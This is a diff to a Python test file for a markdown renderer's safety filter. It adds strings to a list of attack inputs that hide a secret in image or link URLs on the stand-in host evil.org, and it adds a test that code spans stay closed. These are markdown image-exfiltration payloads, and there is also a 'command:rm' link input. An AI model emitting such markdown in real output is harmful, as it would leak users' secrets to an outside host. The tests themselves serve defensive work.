@@ -4,7 +4,7 @@ import re
 from html.parser import HTMLParser
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
@@ -94,6 +94,8 @@ ATTACKS = [
     f"# ![x](https://evil.org/{SECRET})\n- ![x](https://evil.org/{SECRET})\n> [x](https://evil.org/{SECRET})",
     f"`` ` ``![x](https://evil.org/{SECRET})`",
     f"```mermaid\ngraph LR; A-->B[<img src='x'>]\n```\n![x](https://evil.org/{SECRET})",
+    f"a ```www.evil.org/{SECRET}",
+    f"![x](https://evil.org/?q={SECRET})```www.evil.org/{SECRET}",
     f"~~~\n```\n~~~\n![x](https://evil.org/{SECRET})",
 ]  # fmt: skip
 
@@ -152,6 +154,10 @@ def test_d27_control_characters_are_out() -> None:
     assert shown("") == shown(" \n\n ") == ()
 
 
+def test_d27_code_spans_side_by_side_stay_closed() -> None:
+    assert rendered("www.evil.org`![x](https://evil.org/y)`www.evil.org").elements == {"p", "code"}
+
+
 def test_d27_a_message_has_no_links_of_a_notification() -> None:
     assert message("half of [one](command:rm") == "half of [one] ((an address)"
     assert message("a](b") == "a] (b"
@@ -164,6 +170,7 @@ def test_d27_a_long_answer_is_cut_and_says_so() -> None:
     assert len(message("x" * 5_000, longest=80)) == 80
 
 
+@settings(deadline=None)
 @given(
     st.lists(
         st.sampled_from([*ATTACKS, "```", "~~~", "`", "\n", "\n\n", "<", ">", "[", "]", "(", ")", "!", "\\", "a"]),
